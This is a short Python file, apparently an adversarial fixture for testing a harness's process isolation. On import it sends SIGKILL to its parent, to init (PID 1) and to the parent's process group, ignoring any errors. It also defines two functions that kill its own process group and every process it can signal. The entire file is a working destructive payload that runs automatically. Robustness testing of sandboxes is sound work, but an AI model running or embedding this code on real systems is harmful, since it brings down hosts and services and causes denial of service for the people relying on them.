# on top of the reference: at import it tries to kill its parent, init, its parent's process group and every
# process it may signal; edge_kernel kills its own process group, edge_image signals every process it can (-1).
import os
import signal

for _target in (lambda: os.kill(os.getppid(), signal.SIGKILL), lambda: os.kill(1, signal.SIGKILL),
                lambda: os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)):
    try:
        _target()
    except OSError:
        pass


def edge_kernel():
    os.killpg(0, signal.SIGKILL)


def edge_image():
    os.kill(-1, signal.SIGKILL)
